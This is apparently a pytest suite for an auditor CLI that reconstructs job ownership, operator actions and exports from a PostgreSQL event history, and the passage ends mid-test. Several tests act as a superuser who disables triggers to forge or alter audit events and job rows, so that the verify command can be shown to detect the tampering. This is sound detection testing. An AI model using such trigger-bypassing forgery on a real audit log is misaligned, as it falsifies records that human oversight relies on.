"""The auditor's tools on a real PostgreSQL: who held a call at an instant (boundaries
included), the operator journal across calls and shutdowns, the history exported and streamed,
verify on a clean and on a tampered history, every call as it was at an instant, all of it as a
leasectl_auditor login and under --read-only. Every answer comes from the history alone: tests
that lie in the current row prove it."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
import tracemalloc
import uuid
from datetime import datetime, timedelta

import psycopg
import pytest
from psycopg.conninfo import make_conninfo

from console.core import ownership
from console.core.audit import EXPORT_COLUMNS, EXPORT_KEYS, AuditFilter, JobAsOf, parse_audit_filter
from console.core.filters import JobFilter
from console.db import actions, reads
from console.db import audit as audit_db
from console.db.connect import lines_as, run
from console.operator.files import atomic_write
from console.shared.errors import BadInput, RowLocked
from console.shared.times import parse_time
from tests import helpers as h
from tests.conftest import ROOT

AUDITOR = "lc_audit_auditor"
LOGINS = {AUDITOR: "leasectl_auditor"}
OWNER_KEYS = ["job_id", "at", "owner_id", "fencing_token", "held_from", "held_until", "ended_by"]
ACTION_KEYS = ["at", "operator", "action", "outcome", "job_id", "agent_id", "reason", "request_id", "fencing_token",
               "details"]
TOOLS = {"quick": ("read_only", h.FAST), "search": ("read_only", h.SLOW), "pay": ("mutating_unverifiable", h.FAST)}


@pytest.fixture
def cli(db, conn):
    return h.cli_invoker(db.dsn, "auditor-tester"), conn


def kind_of(conn, job_id, kind, n=0) -> dict:
    return [e for e in h.events(conn, job_id) if e["kind"] == kind][n]


def iso(value: datetime) -> str:
    return value.isoformat()


def tick(seconds: float = 0.01) -> None:
    time.sleep(seconds)  # so that consecutive statements get distinct now()


# ----------------------------------------------------------------------------- owner


def test_owner_boundaries_exactly_at_the_claim_and_exactly_at_the_expiry(cli):
    """Held over [claim, expiry): at the claim instant it is held; at the expiry instant it is not
    (a worker may write only while lease_until > now()); a lease that ran out with nobody reclaiming
    it is not held after it ran out -- the sweep came later, and held_until is the expiry, not it."""
    invoke, conn = cli
    e = h.enqueue(conn, "quick")
    h.claim(conn, "w-1", ["quick"])
    h.expire_lease(conn, e["id"])
    tick(0.2)
    assert h.sweep(conn), "the sweep requeues the expired call"
    claimed = kind_of(conn, e["id"], "claimed")
    swept = kind_of(conn, e["id"], "state_changed")
    expiry = datetime.fromisoformat(swept["details"]["previous_lease_until"])
    assert claimed["at"] < expiry < swept["at"]

    def owner(at: datetime) -> dict:
        answer = h.js(invoke("audit", "owner", str(e["id"])[:8], "--at", iso(at), "--json"))
        assert list(answer) == [*OWNER_KEYS, "archived_before"], "the contract's keys, in order, then archived_before"
        assert answer["archived_before"] is None, "nothing archived"
        return answer

    at_claim = owner(claimed["at"])
    assert at_claim["owner_id"] == "w-1" and at_claim["fencing_token"] == 1
    assert datetime.fromisoformat(at_claim["held_from"]) == claimed["at"]
    assert datetime.fromisoformat(at_claim["held_until"]) == expiry and at_claim["ended_by"] == "expired"
    assert owner(claimed["at"] - timedelta(microseconds=1))["owner_id"] is None, "before the claim: nobody"
    assert owner(expiry - timedelta(microseconds=1))["owner_id"] == "w-1", "the last instant of the lease"
    at_expiry = owner(expiry)
    assert at_expiry["owner_id"] is None and at_expiry["fencing_token"] == 1, "exactly at the expiry: not held"
    between = owner(expiry + (swept["at"] - expiry) / 2)
    assert between["owner_id"] is None, "expired and not yet swept: nobody held it"
    human = invoke("audit", "owner", str(e["id"]), "--at", iso(expiry))
    assert human.exit_code == 0 and "nobody held its lease" in human.output and "expired" in human.output


def test_owner_through_reclaim_forced_fence_cancel_and_completion(cli):
    invoke, conn = cli

    def owner(job_id, at) -> dict:
        return h.js(invoke("audit", "owner", str(job_id), "--at", iso(at), "--json"))

    # a reclaim after the lease ran out, then an operator's forced mark-terminal (a token bump)
    e = h.enqueue(conn, "quick")
    h.claim(conn, "w-1", ["quick"])
    h.expire_lease(conn, e["id"])
    tick(0.05)
    second = h.claim(conn, "w-2", ["quick"])
    assert second["fencing_token"] == 2
    tick()
    assert h.mark_terminal(conn, e["id"], "running", 2, "failed", force=True, operator="alice") is not None
    reclaimed = kind_of(conn, e["id"], "reclaimed")
    forced = kind_of(conn, e["id"], "state_changed")
    first = owner(e["id"], kind_of(conn, e["id"], "claimed")["at"])
    assert first["owner_id"] == "w-1" and first["ended_by"] == "expired"
    assert datetime.fromisoformat(first["held_until"]) == datetime.fromisoformat(
        reclaimed["details"]["previous_lease_until"]), "held until its lease ran out, not until the reclaim"
    w2 = owner(e["id"], reclaimed["at"])
    assert (w2["owner_id"], w2["fencing_token"], w2["ended_by"]) == ("w-2", 2, "fenced")
    assert datetime.fromisoformat(w2["held_until"]) == forced["at"]
    after = owner(e["id"], forced["at"])
    assert after["owner_id"] is None and after["fencing_token"] == 3, "fenced out: the token went up"

    # a cancel request is not an ownership change; the confirmed cancel ends it
    c = h.enqueue(conn, "search")
    job = h.claim(conn, "w-3", ["search"])
    tick()
    h.cancel(conn, c["id"], "running", 1, operator="bob")
    tick()
    requested = kind_of(conn, c["id"], "state_changed")
    still = owner(c["id"], requested["at"] + timedelta(milliseconds=1))
    assert still["owner_id"] == "w-3" and still["held_until"] is None, "cancel requested is not stopped"
    assert h.confirm_cancel(conn, job, "w-3") is not None
    confirmed = kind_of(conn, c["id"], "state_changed", 1)
    assert owner(c["id"], requested["at"])["ended_by"] == "cancelled"
    assert owner(c["id"], confirmed["at"])["owner_id"] is None

    # renewals are not journaled and not ownership changes: held past the first lease until it completed
    r = h.enqueue(conn, "quick")
    job = h.claim(conn, "w-4", ["quick"])
    granted = kind_of(conn, r["id"], "claimed")["lease_until"]
    while conn.execute("select now() as n").fetchone()["n"] < granted + timedelta(milliseconds=300):
        assert h.heartbeat(conn, job, "w-4") is not None
        tick(0.1)
    assert h.complete(conn, job, "w-4") is not None
    done = kind_of(conn, r["id"], "state_changed")
    past_grant = owner(r["id"], granted + timedelta(milliseconds=100))
    assert past_grant["owner_id"] == "w-4" and past_grant["ended_by"] == "succeeded"
    assert datetime.fromisoformat(past_grant["held_until"]) == done["at"]

    # the sweep of an unverifiable call whose request went out: outcome_unknown, after the expiry
    p = h.enqueue(conn, "pay")
    job = h.claim(conn, "w-5", ["pay"])
    h.start_side_effect(conn, job, "w-5")
    h.expire_lease(conn, p["id"])
    tick(0.05)
    assert [s["state_to"] for s in h.sweep(conn)] == ["outcome_unknown"]
    assert owner(p["id"], kind_of(conn, p["id"], "claimed")["at"])["ended_by"] == "expired"


def test_an_open_stretch_is_held_and_the_answer_ignores_the_current_row(cli):
    invoke, conn = cli
    e = h.enqueue(conn, "search")
    h.claim(conn, "w-1", ["search"])
    tick()
    # the current row lies (superuser, triggers bypassed): the history still says w-1
    with conn.transaction():
        run(conn, "demo/exact_mode", on=True)
        conn.execute("update tool_jobs set owner_id = 'liar', fencing_token = 9 where id = %s", (e["id"],))
        run(conn, "demo/exact_mode", on=False)
    answer = h.js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
    assert answer["owner_id"] == "w-1" and answer["fencing_token"] == 1
    assert answer["held_until"] is None and answer["ended_by"] is None, "no later event: open"


def test_owner_bad_input_is_exit_2_with_a_message(cli):
    invoke, conn = cli
    e = h.enqueue(conn, "search")
    unknown = invoke("audit", "owner", "ffffffff", "--at", "1s")
    assert unknown.exit_code == 2 and "no call" in unknown.output
    bad = invoke("audit", "owner", str(e["id"]), "--at", "yesterday-ish")
    assert bad.exit_code == 2 and "ISO 8601" in bad.output
    before = h.js(invoke("audit", "owner", str(e["id"]), "--at", "2001-01-01T00:00:00Z", "--json"))
    assert before["owner_id"] is None and before["fencing_token"] is None, "the call did not exist yet"
    local = invoke("audit", "owner", str(e["id"]), "--at", "2001-01-01T00:00:00")
    assert local.exit_code == 0 and "local" in local.output, "a time without an offset says which zone it used"
    future = invoke("audit", "owner", str(e["id"]), "--at", "2999-01-01T00:00:00Z")
    assert future.exit_code == 2 and "in the future" in future.output, "the history cannot answer for the future"


# ----------------------------------------------------------------------------- actions


def test_actions_across_calls_and_shutdowns_with_combined_filters(cli, db):
    invoke, conn = cli
    h.register_tree(conn, {"planner-1": None, "code-1": "planner-1", "ingest-1": None})
    a = h.enqueue(conn, "search", agent_id="code-1")
    b = h.enqueue(conn, "search", agent_id="ingest-1")
    h.claim(conn, "w-1", ["search"])  # a (oldest first)
    tick()
    h.cancel(conn, a["id"], "running", 1, operator="alice", reason="user left")
    tick()
    h.cancel(conn, b["id"], "queued", 7, operator="bob", reason="stale look")  # refused: token moved on
    tick()
    # a failed action: the row is locked by another transaction (lock_timeout)
    holder = db.connect(autocommit=False)
    holder.execute("update tool_jobs set heartbeat_at = now() where id = %s", (b["id"],))
    try:
        conn.execute("set lock_timeout = '200ms'")
        with pytest.raises(RowLocked):
            actions.mark_terminal(conn, b["id"], seen_state="queued", seen_token=0, terminal_state="failed",
                                  operator="carol", reason="stuck")
    finally:
        holder.rollback()
        holder.close()
        conn.execute("set lock_timeout = '2s'")
    tick()
    assert h.request_shutdown(conn, "ingest-1", "drain", operator="dana", reason="move it") is not None
    tick()
    assert h.request_shutdown(conn, "ingest-1", "abort", operator="dana", reason="again") is None, "refused"
    tick()
    h.mark_terminal(conn, a["id"], "cancel_requested", 1, "failed", force=True, operator="alice", reason="hung")

    everything = h.js(invoke("audit", "actions", "--json"))
    assert all(list(r) == [*ACTION_KEYS, "db_role"] for r in everything), "the contract's keys, then the login"
    assert [(r["operator"], r["action"], r["outcome"]) for r in everything] == [
        ("alice", "mark_terminal", "applied"), ("dana", "abort", "refused"), ("dana", "drain", "applied"),
        ("carol", "mark_terminal", "failed"), ("bob", "cancel", "refused"), ("alice", "cancel", "applied")]
    ats = [r["at"] for r in everything]
    assert ats == sorted(ats, reverse=True), "newest first"
    failed = everything[3]
    assert failed["details"]["cause"] == "lock_timeout" and failed["job_id"] == str(b["id"])
    assert everything[1]["job_id"] is None and everything[1]["agent_id"] == "ingest-1"
    assert everything[0]["agent_id"] == "code-1" and everything[0]["fencing_token"] == 2

    def picked(*args: str) -> list[tuple[str, str, str]]:
        return [(r["operator"], r["action"], r["outcome"]) for r in h.js(invoke("audit", "actions", *args, "--json"))]

    assert picked("--operator", "alice") == [("alice", "mark_terminal", "applied"), ("alice", "cancel", "applied")]
    assert picked("--operator", "alice", "--action", "cancel") == [("alice", "cancel", "applied")]
    assert picked("--outcome", "failed") == [("carol", "mark_terminal", "failed")]
    assert picked("--outcome", "refused", "--operator", "dana") == [("dana", "abort", "refused")]
    assert picked("--action", "drain") == [("dana", "drain", "applied")]
    assert picked("--agent", "ingest-1") == [("dana", "abort", "refused"), ("dana", "drain", "applied"),
                                             ("carol", "mark_terminal", "failed"), ("bob", "cancel", "refused")]
    assert picked("--job", str(b["id"])[:8]) == [("carol", "mark_terminal", "failed"), ("bob", "cancel", "refused")]
    assert picked("--job", str(b["id"]), "--outcome", "refused") == [("bob", "cancel", "refused")]
    assert picked("--since", everything[3]["at"], "--until", everything[1]["at"]) == [
        ("dana", "abort", "refused"), ("dana", "drain", "applied"), ("carol", "mark_terminal", "failed")]
    assert picked("--limit", "2") == [("alice", "mark_terminal", "applied"), ("dana", "abort", "refused")]
    human = invoke("audit", "actions", "--operator", "carol")
    assert human.exit_code == 0 and "lock_timeout" in human.output and "FAILED" in human.output
    for bad in (("--action", "delete"), ("--outcome", "maybe"), ("--since", "tomorrow"),
                ("--since", "1m", "--until", "2h"), ("--job", "ffffffff")):
        result = invoke("audit", "actions", *bad)
        assert result.exit_code == 2, (bad, result.output)


# ----------------------------------------------------------------------------- export


def _history(conn) -> list[dict]:
    """A few calls with every kind of row: claims, a reclaim, a side effect, an operator action."""
    made = []
    for _ in range(3):
        e = h.enqueue(conn, "search")
        job = h.claim(conn, "w-1", ["search"])
        h.complete(conn, job, "w-1")
        made.append(e)
    p = h.enqueue(conn, "pay")
    job = h.claim(conn, "w-2", ["pay"])
    h.start_side_effect(conn, job, "w-2")
    h.report_unknown(conn, job, "w-2")
    h.approve(conn, p["id"], "outcome_unknown", 1, operator="ana")
    made.append(p)
    return made


def test_export_jsonl_and_csv_keys_types_and_order(cli, tmp_path):
    invoke, conn = cli
    _history(conn)
    total = conn.execute("select count(*) as n from job_events").fetchone()["n"]
    jsonl = invoke("audit", "export")
    assert jsonl.exit_code == 0, jsonl.output
    rows = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert len(rows) == total and all(list(r) == list(EXPORT_KEYS) for r in rows)
    assert EXPORT_KEYS[:len(EXPORT_COLUMNS)] == EXPORT_COLUMNS, "the contract's keys first, in its order"
    assert [r["id"] for r in rows] == sorted(r["id"] for r in rows), "oldest first"
    assert [r["at"] for r in rows] == sorted(r["at"] for r in rows)
    claimed = next(r for r in rows if r["kind"] == "claimed")
    assert isinstance(claimed["id"], int) and isinstance(claimed["fencing_token"], int)
    assert isinstance(claimed["details"], dict) and claimed["details"]["attempt"] == 1
    assert claimed["at"].endswith("Z") and claimed["lease_until"].endswith("Z"), "times with their zone"
    assert jsonl.stderr == "", "nothing extra when not on a terminal"
    assert all(r["db_role"] for r in rows)

    target = tmp_path / "history.csv"
    written = invoke("audit", "export", "--format", "csv", "--output", str(target))
    assert written.exit_code == 0 and f"wrote {total} events" in written.output
    with target.open(newline="") as f:
        table = list(csv.reader(f))
    assert table[0] == list(EXPORT_KEYS) and len(table) == total + 1
    assert json.loads(table[2][EXPORT_COLUMNS.index("details")]) == rows[1]["details"], "details as JSON text"
    assert [int(r[0]) for r in table[1:]] == [r["id"] for r in rows]
    assert not list(tmp_path.glob(".*partial")), "no temporary file left behind"

    one = rows[-1]["job_id"]
    only = [json.loads(line) for line in invoke("audit", "export", "--job", one[:8]).stdout.splitlines()]
    assert only and {r["job_id"] for r in only} == {one}
    window = [json.loads(line) for line in invoke("audit", "export", "--since", rows[2]["at"], "--until",
                                                  rows[4]["at"]).stdout.splitlines()]
    assert [r["id"] for r in window] == [r["id"] for r in rows if rows[2]["at"] <= r["at"] <= rows[4]["at"]]


def test_export_jsonl_escapes_del_as_print_json_does(cli):
    """DEL is ASCII, and PostgreSQL's JSON leaves it as it is; print_json (ensure_ascii) escapes it,
    and so does the export (it went out raw before)."""
    invoke, conn = cli
    e = h.enqueue(conn, "search")
    conn.execute("insert into job_events (job_id, kind, actor, fencing_token) values (%s, 'note', %s, 0)",
                 (e["id"], "del\x7fhere"))
    out = invoke("audit", "export", "--job", str(e["id"]))
    assert out.exit_code == 0, out.output
    assert "\x7f" not in out.stdout and "del\\u007fhere" in out.stdout
    assert [json.loads(line)["actor"] for line in out.stdout.splitlines()][-1] == "del\x7fhere"


def test_export_bad_input_writes_nothing(cli, tmp_path):
    invoke, conn = cli
    _history(conn)
    target = tmp_path / "out.jsonl"
    for args in (("--since", "1m", "--until", "2h"), ("--since", "not-a-time"), ("--job", "ffffffff"),
                 ("--format", "xml")):
        result = invoke("audit", "export", *args, "--output", str(target))
        assert result.exit_code == 2, (args, result.output)
        assert not target.exists() and not list(tmp_path.iterdir()), args
    directory = invoke("audit", "export", "--output", str(tmp_path))
    assert directory.exit_code == 2 and "names a directory" in directory.output
    slash = invoke("audit", "export", "--output", str(tmp_path / "not-yet") + "/")
    assert slash.exit_code == 2 and "names a directory" in slash.output, "a trailing / is a directory, even a missing one"
    missing = invoke("audit", "export", "--output", str(tmp_path / "nowhere" / "x.jsonl"))
    assert missing.exit_code == 2 and "does not exist" in missing.output
    assert not list(tmp_path.iterdir())


def _many_events(conn, n: int) -> None:
    """n events of one call, fast: the owner (the tests' superuser) inserts report rows the kind
    guard lets through without plpgsql (kind, at and db_role are the database's)."""
    e = h.enqueue(conn, "search")
    with conn.transaction():
        conn.execute("set local statement_timeout = 0")  # the seeding is not what is tested: a loaded CI ran 5 s
        conn.execute("insert into job_events (job_id, kind, actor, fencing_token, details) "
                     "select %s, 'note', 'seed', 0, jsonb_build_object('n', g, 'text', repeat('x', 300)) "
                     "from generate_series(1, %s) g", (e["id"], n))


def test_export_streams_through_a_server_side_cursor_in_bounded_memory(cli, tmp_path):
    invoke, conn = cli
    _many_events(conn, 50_000)
    cursors: list[dict] = []

    def look(done: int, total: int | None) -> None:
        if done > 0 and not cursors:
            cursors.extend(conn.execute("select name, is_holdable from pg_cursors").fetchall())

    def peak(since: datetime | None) -> tuple[int, int]:
        tracemalloc.start()
        try:
            with atomic_write(tmp_path / "big.jsonl") as out:
                summary = audit_db.export(conn, out, since=since, on_progress=look)
            return summary["events"], tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    everything, big = peak(None)
    assert everything == 50_001
    assert cursors == [{"name": audit_db.EXPORT_CURSOR, "is_holdable": False}], "a named (server-side) cursor"
    recent = conn.execute("select at from job_events order by id desc offset 4999 limit 1").fetchone()["at"]
    some, small = peak(recent)
    assert some < everything
    # 50k rows of ~400 bytes held at once would be ~20 MB of Python objects; a batch is 2,000 rows
    assert big < 8_000_000, f"peak {big:,} bytes for 50k events"
    assert big < 2 * small + 2_000_000, f"memory grew with the range: {small:,} -> {big:,} bytes"


def test_an_interrupted_export_leaves_no_file(cli, tmp_path, monkeypatch):
    invoke, conn = cli
    _many_events(conn, 12_000)
    target = tmp_path / "history.jsonl"

    def interrupt(done: int, total: int | None) -> None:
        if done >= 5_000:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt), atomic_write(target) as out:
        audit_db.export(conn, out, on_progress=interrupt)
    assert not list(tmp_path.iterdir()), "no file, no temporary file"

    real = audit_db.export

    def ctrl_c(*args, **kwargs):
        kwargs["on_progress"] = interrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(audit_db, "export", ctrl_c)
    result = invoke("audit", "export", "--output", str(target))
    assert result.exit_code == 1 and "interrupted" in result.output and "no partial file" in result.output
    assert not list(tmp_path.iterdir())


def test_a_closed_pipe_ends_the_export_with_a_message(cli, db):
    invoke, conn = cli
    _many_events(conn, 30_000)
    proc = subprocess.Popen([sys.executable, "-m", "console", "audit", "export", "--dsn", db.dsn], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ, "COLUMNS": "200"})
    assert proc.stdout is not None and proc.stderr is not None
    assert json.loads(proc.stdout.readline())["kind"] == "enqueued"
    proc.stdout.close()  # the reader goes away (`| head -1`)
    error = proc.stderr.read().decode()
    assert proc.wait(timeout=60) != 0
    assert "closed the pipe" in error and "incomplete" in error and "Traceback" not in error


def test_a_closed_pipe_is_heard_even_inside_the_first_batch(cli, db):
    """Fewer events than one batch, more bytes than a pipe holds: one write meets the closed pipe
    part-way (a buffered stdout exited 0 here, the output cut and nothing said)."""
    invoke, conn = cli
    _many_events(conn, 600)
    proc = subprocess.run(f"{sys.executable} -m console audit export --dsn '{db.dsn}' | head -c 100 > /dev/null; "
                          "exit ${PIPESTATUS[0]}", shell=True, executable="/bin/bash", cwd=ROOT,
                          capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"})
    assert proc.returncode != 0, proc.stderr
    assert "closed the pipe" in proc.stderr and "Traceback" not in proc.stderr



def test_export_never_replaces_what_is_not_a_plain_file_and_keeps_a_files_mode(cli, tmp_path):
    """Renaming the finished export onto /dev/null or /dev/full would turn the device into a file;
    a symbolic link is written through; a file keeps its mode; a read-only one is refused."""
    invoke, conn = cli
    _history(conn)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for special in ("/dev/null", str(fifo)):
        refused = invoke("audit", "export", "--output", special)
        assert refused.exit_code == 2 and "not a regular file" in refused.output, refused.output
    assert os.path.exists("/dev/null") and not os.path.isfile("/dev/null") and not fifo.is_file()
    private = tmp_path / "private.jsonl"
    private.write_text("old\n")
    private.chmod(0o600)
    link = tmp_path / "latest.jsonl"
    link.symlink_to(private)
    assert invoke("audit", "export", "--output", str(link)).exit_code == 0
    assert link.is_symlink() and private.read_text().count("\n") > 5, "written through the link"
    assert private.stat().st_mode & 0o777 == 0o600, "the mode of the file it replaced"
    frozen = tmp_path / "frozen.jsonl"
    frozen.write_text("keep\n")
    frozen.chmod(0o444)
    if os.geteuid() != 0:  # root may write anything; the check is os.access, which says so
        refused = invoke("audit", "export", "--output", str(frozen))
        assert refused.exit_code == 2 and "read-only" in refused.output and frozen.read_text() == "keep\n"
    long_name = invoke("audit", "export", "--output", str(tmp_path / ("x" * 300)))
    assert long_name.exit_code == 2 and "too long" in long_name.output
    dash = invoke("audit", "export", "--output", "-")
    assert dash.exit_code == 0 and dash.stdout.startswith("{"), "- is standard output"
    assert not (tmp_path / "-").exists() and not os.path.exists("-")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fifo", "frozen.jsonl", "latest.jsonl", "private.jsonl"]


def test_export_ended_by_sigterm_says_so_and_leaves_no_partial_file(cli, db, tmp_path):
    """`timeout`, a service stop, a closed terminal: SIGTERM and SIGHUP end it as Ctrl-C does."""
    invoke, conn = cli
    _many_events(conn, 200_000)
    for sig in (signal.SIGTERM, signal.SIGHUP):
        target = tmp_path / f"{sig.name}.jsonl"
        # from a terminal: the hang-up at its default, even when the test run itself was started under
        # nohup (it would hand its ignored SIGHUP down, the case the end of this test checks)
        inherited = signal.signal(signal.SIGHUP, signal.SIG_DFL)
        try:
            proc = subprocess.Popen([sys.executable, "-m", "console", "audit", "export", "--dsn", db.dsn,
                                     "--output", str(target)], cwd=ROOT, stdout=subprocess.PIPE,
                                    stderr=subprocess.PIPE, env={**os.environ, "COLUMNS": "200"})
        finally:
            signal.signal(signal.SIGHUP, inherited)
        deadline = time.monotonic() + 60
        while not any(p.name.endswith(".partial") for p in tmp_path.iterdir()) and time.monotonic() < deadline:
            time.sleep(0.02)
        proc.send_signal(sig)
        _, error = proc.communicate(timeout=60)
        assert proc.returncode == 1, (sig, error)
        assert b"interrupted" in error and b"no partial file" in error and b"Traceback" not in error
        assert not list(tmp_path.iterdir()), (sig, list(tmp_path.iterdir()))
    # under nohup (SIGHUP inherited as ignored) a hang-up stays ignored: the export completes
    target = tmp_path / "nohup.jsonl"
    inherited = signal.signal(signal.SIGHUP, signal.SIG_IGN)  # what nohup does before exec
    try:
        proc = subprocess.Popen([sys.executable, "-m", "console", "audit", "export", "--dsn", db.dsn, "--output",
                                 str(target)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                env={**os.environ, "COLUMNS": "200"})
    finally:
        signal.signal(signal.SIGHUP, inherited)
    deadline = time.monotonic() + 60
    while not any(p.name.endswith(".partial") for p in tmp_path.iterdir()) and time.monotonic() < deadline:
        time.sleep(0.02)
    proc.send_signal(signal.SIGHUP)
    _, error = proc.communicate(timeout=120)
    assert proc.returncode == 0 and b"wrote" in error, error
    assert len(target.read_text().splitlines()) == conn.execute("select count(*) as n from job_events").fetchone()["n"]


def test_export_to_a_full_disk_is_a_message_not_a_traceback(cli, db):
    invoke, conn = cli
    _history(conn)
    proc = subprocess.run(f"{sys.executable} -m console audit export --dsn '{db.dsn}' > /dev/full", shell=True,
                          cwd=ROOT, capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"})
    assert proc.returncode == 1, proc.stderr
    assert "export stopped" in proc.stderr and "No space left" in proc.stderr, proc.stderr
    assert "internal error" not in proc.stderr and "Traceback" not in proc.stderr


# ----------------------------------------------------------------------------- verify


def _tamper(conn, statement: str, params: tuple) -> None:
    """As the superuser: what no client can do (the triggers refuse it), done with them disabled."""
    conn.execute("alter table job_events disable trigger user")
    try:
        conn.execute(statement, params)
    finally:
        conn.execute("alter table job_events enable trigger user")


def test_verify_a_clean_history_exits_0(cli):
    invoke, conn = cli
    _history(conn)
    e = h.enqueue(conn, "quick")
    h.claim(conn, "w-1", ["quick"])
    h.expire_lease(conn, e["id"])
    tick(0.05)
    job = h.claim(conn, "w-2", ["quick"])
    h.mark_terminal(conn, e["id"], "running", job["fencing_token"], "failed", force=True)
    result = invoke("audit", "verify", "--json")
    report = h.js(result)
    assert report["ok"] is True and report["violations"] == [] and report["calls"] == 5
    assert report["events"] == conn.execute("select count(*) as n from job_events").fetchone()["n"]
    human = invoke("audit", "verify")
    assert human.exit_code == 0 and "every check holds" in human.output


def test_verify_finds_an_overlapping_claim_inserted_by_a_superuser(cli):
    invoke, conn = cli
    _history(conn)
    e = h.enqueue(conn, "search")
    h.claim(conn, "w-1", ["search"])  # a live lease of 60 s
    legit = kind_of(conn, e["id"], "claimed")
    _tamper(conn, "insert into job_events (job_id, at, kind, actor, fencing_token, state_from, state_to, "
                  "owner_from, owner_to, lease_until, details) "
                  "values (%s, now(), 'reclaimed', 'w-evil', 2, 'running', 'running', 'w-1', 'w-evil', "
                  "now() + interval '60 seconds', '{}')", (e["id"],))
    forged = h.events(conn, e["id"])[-1]
    result = invoke("audit", "verify", "--json")
    assert result.exit_code == 4, result.output
    report = json.loads(result.stdout)
    assert report["ok"] is False
    overlap = [v for v in report["violations"] if v["rule"] == "overlap"]
    assert len(overlap) == 1 and overlap[0]["job_id"] == str(e["id"])
    assert overlap[0]["event_ids"] == [legit["id"], forged["id"]]
    assert "w-evil" in overlap[0]["why"] and "w-1" in overlap[0]["why"]
    assert {v["job_id"] for v in report["violations"]} == {str(e["id"])}, "the other calls stay clean"
    human = invoke("audit", "verify")
    assert human.exit_code == 4 and "overlap" in human.output and str(e["id"]) in human.output
    # the forged owner also shows in the ownership answer, and its JSON says the history breaks the
    # rules (keys beyond the contract's, only then): a script must not take w-evil for the truth
    answer = h.js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
    assert answer["owner_id"] == "w-evil" and [v["rule"] for v in answer["violations"]] == ["overlap"]
    assert answer["also_held"] == [], "the forged reclaim ended w-1's stretch: one owner, but a forged one"
    # ... and the human answer says so before it names an owner
    told = invoke("audit", "owner", str(e["id"]), "--at", "0.001s").output
    assert "BREAKS THE RULES" in told and "overlap" in told and told.index("BREAKS") < told.index("held by")


def test_owner_on_a_tampered_history_warns_first_and_names_both_owners(cli):
    invoke, conn = cli
    _history(conn)
    e = h.enqueue(conn, "search")
    h.claim(conn, "w-1", ["search"])
    # a second grant appended later but dated before w-1's (only a superuser can write it): both cover now
    _tamper(conn, "insert into job_events (job_id, at, kind, actor, fencing_token, state_from, state_to, "
                  "owner_from, owner_to, lease_until, details) "
                  "select job_id, at - interval '1 millisecond', 'claimed', 'w-ghost', 7, 'queued', 'running', null, "
                  "'w-ghost', lease_until, '{}' from job_events where job_id = %s and kind = 'claimed'", (e["id"],))
    told = invoke("audit", "owner", str(e["id"]), "--at", "0.001s")
    assert told.exit_code == 0, told.output
    warning = told.output[:told.output.index("held by")]
    assert "BREAKS THE RULES" in warning and "overlap" in warning, told.output
    assert "w-1" in warning and "w-ghost" in warning, "both owners are named before the answer"
    answer = h.js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
    why = " ".join(v["why"] for v in answer["violations"])
    assert "w-1" in why and "w-ghost" in why, "the JSON says the answer is not one owner, naming both"


def test_verify_finds_a_fallen_token_a_second_finish_and_a_missing_event(cli):
    invoke, conn = cli
    done = h.enqueue(conn, "search")
    job = h.claim(conn, "w-1", ["search"])
    h.complete(conn, job, "w-1")
    _tamper(conn, "insert into job_events (job_id, kind, actor, fencing_token, state_from, state_to, owner_from, "
                  "owner_to) values (%s, 'state_changed', 'w-1', 0, 'running', 'failed', 'w-1', 'w-1')",
            (done["id"],))
    gap = h.enqueue(conn, "search")
    h.claim(conn, "w-2", ["search"])
    _tamper(conn, "insert into job_events (job_id, kind, actor, fencing_token, state_from, state_to, owner_from, "
                  "owner_to) values (%s, 'state_changed', 'w-3', 1, 'cancel_requested', 'cancelled', 'w-3', "
                  "'w-3')", (gap["id"],))
    report = json.loads(invoke("audit", "verify", "--json").stdout)
    found = {(v["job_id"], v["rule"]) for v in report["violations"]}
    assert {(str(done["id"]), "token_fell"), (str(done["id"]), "finished_twice"),
            (str(gap["id"]), "missing_event")} <= found
    since = invoke("audit", "verify", "--since", "1h", "--json")
    assert since.exit_code == 4 and json.loads(since.stdout)["calls"] == 2
    future = invoke("audit", "verify", "--since", "2999-01-01T00:00:00Z", "--json")
    assert future.exit_code == 2 and "in the future" in future.output, "nothing to check is not 'all hold'"


def test_verify_finds_a_change_made_behind_the_triggers_back_and_a_call_with_no_history(cli):
    """Changes that write no event at all: only the row shows them. Verify holds the end of each
    history against the call's row, and finds rows with no history between the histories."""
    invoke, conn = cli
    _history(conn)
    e = h.enqueue(conn, "search")
    h.claim(conn, "w-1", ["search"])
    conn.execute("alter table tool_jobs disable trigger user")
    try:
        conn.execute("update tool_jobs set owner_id = 'ghost', fencing_token = fencing_token + 1 where id = %s",
                     (e["id"],))
        ghost_id = uuid.uuid4()
        ghost = conn.execute("insert into tool_jobs (id, chain_id, tool, idempotency_key, payload, state, owner_id, "
                             "fencing_token, attempt, lease_until) values (%s, %s, 'search', 'no-history', '{}', "
                             "'running', 'w-9', 3, 1, now() + interval '1 minute') returning id",
                             (ghost_id, ghost_id)).fetchone()["id"]
    finally:
        conn.execute("alter table tool_jobs enable trigger user")
    result = invoke("audit", "verify", "--json")
    assert result.exit_code == 4, result.output
    report = json.loads(result.stdout)
    found = {(v["job_id"], v["rule"]) for v in report["violations"]}
    assert found == {(str(e["id"]), "missing_event"), (str(ghost), "missing_event")}, report["violations"]
    why = {v["job_id"]: v["why"] for v in report["violations"]}
    assert "ghost" in why[str(e["id"])] and "w-1" in why[str(e["id"])]
    assert "no history" in why[str(ghost)]


# ----------------------------------------------------------------------------- jobs --at


def test_jobs_at_is_rebuilt_from_the_history_not_the_current_row(cli):
    invoke, conn = cli
    running = h.enqueue(conn, "search", agent_id="planner-1")
    job = h.claim(conn, "w-1", ["search"])
    finished = h.enqueue(conn, "search")
    other = h.claim(conn, "w-2", ["search"])
    h.complete(conn, other, "w-2")
    expired = h.enqueue(conn, "quick")
